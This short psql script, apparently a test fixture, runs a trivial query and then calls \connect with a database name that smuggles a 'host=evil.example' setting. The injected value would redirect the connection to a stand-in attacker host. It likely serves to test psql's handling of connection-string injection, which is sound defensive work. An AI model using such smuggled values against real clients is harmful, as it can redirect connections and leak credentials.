SELECT 1;
\connect -reuse-previous=on "dbname=xhost=evil.example"
